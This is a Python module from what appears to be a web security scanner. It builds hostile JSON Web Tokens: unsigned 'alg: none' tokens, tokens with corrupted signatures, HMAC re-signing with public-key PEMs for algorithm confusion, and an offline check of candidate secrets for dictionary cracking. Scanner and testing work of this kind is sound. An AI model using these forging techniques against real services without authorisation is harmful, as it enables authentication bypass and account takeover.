"""JSON Web Tokens as an attacker handles them: read unverified, rebuild, re-sign, crack.

joserfc rightly refuses to build hostile tokens (``alg: none``, HS256 keyed with a
public key), which is what an application wants and not what a scanner needs, so
tokens are assembled by hand: base64url of compact JSON, HMAC from the standard
library. joserfc only turns a JWK into the PEM bytes a confused verifier would use as
an HMAC secret. Cracking is offline: :func:`signs` compares the HMAC of the token's
signing input under a candidate secret with its signature, for ``checks._weak_keys``'
one loop over one dictionary.
"""

from __future__ import annotations

import base64
import binascii
import hashlib
import hmac
import json
import re
from collections.abc import Callable, Mapping
from dataclasses import dataclass
from typing import Any

_JWT = re.compile(r"ey[A-Za-z0-9_-]+\.ey[A-Za-z0-9_-]+\.[A-Za-z0-9_-]*")
HMACS: Mapping[str, Callable[[], Any]] = {
    "HS256": hashlib.sha256,
    "HS384": hashlib.sha384,
    "HS512": hashlib.sha512,
}


@dataclass(frozen=True, slots=True, kw_only=True)
class Jwt:
    """A compact JWS read without verifying it."""

    raw: str
    header: Mapping[str, Any]
    claims: Mapping[str, Any]

    @property
    def alg(self) -> str:
        """The algorithm the header claims (``""`` when absent)."""
        return str(self.header.get("alg", ""))

    @property
    def signing_input(self) -> bytes:
        """The two first segments, exactly as sent: what the signature covers."""
        return self.raw.rsplit(".", 1)[0].encode()

    @property
    def signature(self) -> bytes:
        """The decoded signature."""
        return unb64(self.raw.rsplit(".", 1)[1])


def b64(data: bytes) -> str:
    """base64url without padding."""
    return base64.urlsafe_b64encode(data).rstrip(b"=").decode()


def unb64(text: str) -> bytes:
    """Decode base64url with or without padding (b'' when it is not base64url)."""
    try:
        return base64.urlsafe_b64decode(text + "=" * (-len(text) % 4))
    except (binascii.Error, ValueError):
        return b""


def find(value: str) -> Jwt | None:
    """The JWT inside a credential value (``Bearer eyJ…``, a cookie), if there is one."""
    match = _JWT.search(value)
    return parse(match.group(0)) if match else None


def parse(raw: str) -> Jwt | None:
    """``raw`` as a JWT, or None when it is not one (two JSON objects and a signature)."""
    parts = raw.split(".")
    if len(parts) != 3:
        return None
    try:
        header, claims = (json.loads(unb64(part)) for part in parts[:2])
    except ValueError:
        return None
    if not isinstance(header, dict) or not isinstance(claims, dict) or "alg" not in header:
        return None
    return Jwt(raw=raw, header=header, claims=claims)


def _segment(data: Mapping[str, Any]) -> str:
    return b64(json.dumps(dict(data), separators=(",", ":")).encode())


def unsigned(header: Mapping[str, Any], claims: Mapping[str, Any], alg: str = "none") -> str:
    """A token claiming ``alg`` with an empty signature."""
    return f"{_segment({**header, 'alg': alg})}.{_segment(claims)}."


def corrupted(token: Jwt, claims: Mapping[str, Any]) -> str:
    """``claims`` under the token's own header with its signature's first byte flipped."""
    signature = bytearray(token.signature or b"\0")
    signature[0] ^= 0x5A
    return f"{_segment(token.header)}.{_segment(claims)}.{b64(bytes(signature))}"


def sign(header: Mapping[str, Any], claims: Mapping[str, Any], key: bytes, alg: str) -> str:
    """An HMAC-signed token (``alg`` one of HS256/384/512) under ``key``."""
    body = f"{_segment({**header, 'alg': alg})}.{_segment(claims)}"
    digest = hmac.new(key, body.encode(), HMACS[alg]).digest()
    return f"{body}.{b64(digest)}"


def signs(token: Jwt) -> Callable[[str], bool]:
    """Whether a candidate secret is the HMAC key that signed ``token`` (offline; HS* only)."""
    digest = HMACS.get(token.alg.upper())
    signature, message = token.signature, token.signing_input
    if digest is None:
        return lambda candidate: False

    def signed(candidate: str) -> bool:
        mac = hmac.new(candidate.encode(), message, digest).digest()
        return hmac.compare_digest(mac, signature)

    return signed


def public_pems(jwks: Any) -> list[bytes]:
    """The PEM encodings of the public keys in a JWK set (unusable keys are left out)."""
    # Imported here: joserfc and its cryptography cost 0.1 s at start-up, in every scan
    # process, and only an API publishing a JWK set needs them.
    from joserfc.errors import JoseError
    from joserfc.jwk import ECKey, RSAKey

    keys = jwks.get("keys") if isinstance(jwks, dict) else None
    found: list[bytes] = []
    for jwk in keys if isinstance(keys, list) else []:
        kty = jwk.get("kty") if isinstance(jwk, dict) else None
        if kty not in {"RSA", "EC"}:
            continue
        public = {k: v for k, v in jwk.items() if k not in {"d", "p", "q", "dp", "dq", "qi"}}
        try:
            key = RSAKey.import_key(public) if kty == "RSA" else ECKey.import_key(public)
            pem = key.as_pem(private=False)
        except (JoseError, ValueError, TypeError):
            continue
        # Verifiers read the key file as it is: with or without its final newline.
        found += [pem, pem.rstrip(b"\n")]
    return found
